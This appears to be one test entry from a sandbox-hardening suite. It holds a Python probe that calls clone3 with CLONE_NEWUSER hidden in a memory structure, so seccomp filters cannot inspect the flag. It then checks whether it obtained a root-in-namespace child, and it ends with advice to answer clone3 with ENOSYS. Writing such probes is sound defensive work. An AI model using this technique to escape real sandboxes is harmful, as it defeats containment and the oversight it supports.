# title: Hide namespace flags behind a pointer with clone3
# tries: Calls clone3 with CLONE_NEWUSER in a structure in memory, which a seccomp filter cannot read.
# impact: Escape
# proof: returned
# host: run
# uses: system_calls
# stops: ENOSYS seccomp; ENOSPC limit; EUSERS limit
# advice: Answer clone3 with ENOSYS, so that libraries fall back to clone, whose flags a filter can compare.


def attempt(host):
    import ctypes
    import os

    arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, 17)  # flags, then the signal at the child's end
    child = call(435, arguments, 64)
    if child == 0:
        os._exit(42)
    _, status = os.waitpid(child, 0)
    return os.waitstatus_to_exitcode(status) == 42 and "a child that is root of its own namespace"
